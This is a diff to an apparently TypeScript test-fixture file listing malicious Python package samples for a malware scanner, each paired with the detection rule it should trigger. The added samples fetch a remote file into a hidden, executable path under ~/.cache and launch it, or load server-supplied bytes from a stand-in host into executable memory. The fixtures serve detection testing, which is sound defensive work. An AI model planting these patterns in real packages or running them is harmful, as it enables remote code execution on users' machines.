@@ -7,6 +7,20 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a hidden file that is fetched and started',
+      files: wheel(
+        "import os, requests, subprocess\ndef init(url):\n    path = os.path.expanduser('~/.cache/.own')\n    open(path, 'wb').write(requests.get(url).content)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n",
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 6, severity: 'high' }],
+    },
+    {
+      name: 'Python: what a server gives in memory that may be run',
+      files: wheel(
+        "import ctypes, mmap, urllib.request\ndef load():\n    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n    page.write(urllib.request.urlopen('https://a.weir.test/c').read())\n    return ctypes.CFUNCTYPE(ctypes.c_int)(1)()\n",
+      ),
+      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
       name: 'Python: machine code in memory',
       files: wheel(
         'import ctypes\ndef load(code):\n    at = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(at, code, len(code))\n',
